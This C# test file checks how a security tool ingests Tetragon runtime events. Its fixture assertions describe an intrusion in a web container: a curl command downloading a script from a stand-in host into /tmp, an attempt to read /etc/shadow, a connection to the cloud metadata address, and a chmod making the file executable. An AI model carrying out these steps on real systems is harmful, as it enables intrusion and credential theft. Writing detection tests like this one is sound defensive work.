using System.Net;
using Vigil.Ingestion.Tests.Support;

namespace Vigil.Ingestion.Tests.Runtime;

public sealed class TetragonTests
{
    [Fact]
    public void Export_lines_map_exec_exit_file_and_connect_and_account_for_the_rest()
    {
        var (events, report) = Collect.Tetragon(Samples.Read("tetragon.jsonl"));

        Assert.Equal((5, 2, 2), (report.Parsed, report.Skipped, report.Failed));

        var exec = events[0];
        Assert.Equal(RuntimeEvent.KindOneofCase.Exec, exec.KindCase);
        Assert.Equal(("worker-1", "prod-eu"), (exec.Context.Node, exec.Context.Cluster));
        Assert.Equal(("shop", "web-7d9f8-abcde", "web"), (exec.Context.PodNamespace, exec.Context.PodName, exec.Context.ContainerName));
        Assert.Equal("3f1c2b4a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708", exec.Context.ContainerId);
        Assert.Equal("docker.io/library/php:8.2-apache", exec.Context.Image);
        Assert.StartsWith("sha256:4b1e0f3c", exec.Context.ImageDigest, StringComparison.Ordinal);
        Assert.Equal(("/usr/bin/curl", 20481u, 20479u, 33u, "www-data", "/var/www/html"), (exec.Process.Binary, exec.Process.Pid, exec.Process.Ppid, exec.Process.Uid, exec.Process.User, exec.Process.Cwd));
        Assert.Equal(["-s", "-o", "/tmp/x", "http://203.0.113.50/a b.sh"], exec.Process.Args);
        Assert.Equal(123_456_789, exec.Process.StartTimeUnixNano % 1_000_000_000);
        Assert.Equal(["/bin/sh", "/usr/sbin/apache2", "/usr/bin/tini"], exec.Ancestors.Select(a => a.Binary));
        Assert.Equal([20479u, 1201u, 1u], exec.Ancestors.Select(a => a.Pid));
        Assert.Equal(1201u, exec.Ancestors[0].Ppid);
        Assert.Equal(["-c", "curl -s -o /tmp/x http://203.0.113.50/a"], exec.Ancestors[0].Args);

        var exit = events[1];
        Assert.Equal((9, 0), (exit.Exit.Signal, exit.Exit.Status));

        var shadow = events[2];
        Assert.Equal((FileOperation.Open, "/etc/shadow", 13), (shadow.File.Operation, shadow.File.Path, shadow.Errno));

        var connect = events[3];
        Assert.Equal(IPAddress.Parse("169.254.169.254").GetAddressBytes(), connect.Connect.DestinationAddress.ToByteArray());
        Assert.Equal((80u, 41234u, Protocol.Tcp), (connect.Connect.DestinationPort, connect.Connect.SourcePort, connect.Connect.Protocol));

        var chmod = events[4];
        Assert.Equal((FileOperation.Chmod, "/tmp/x", 493u), (chmod.File.Operation, chmod.File.Path, chmod.File.Mode));
        Assert.Empty(chmod.Context.PodName);

        Assert.Contains("'commit_creds'", Collect.Single(report, 6).Reason, StringComparison.Ordinal);
        Assert.Contains("'process_tracepoint'", Collect.Single(report, 7).Reason, StringComparison.Ordinal);
        Assert.Equal(DiagnosticKind.Failed, Collect.Single(report, 8).Kind);
        Assert.Contains("malformed JSON", Collect.Single(report, 9).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void The_callers_cluster_name_wins_over_tetragons()
    {
        var (events, _) = Collect.Tetragon(Samples.Read("tetragon.jsonl"), "configured");

        Assert.All(events, e => Assert.Equal("configured", e.Context.Cluster));
    }
}
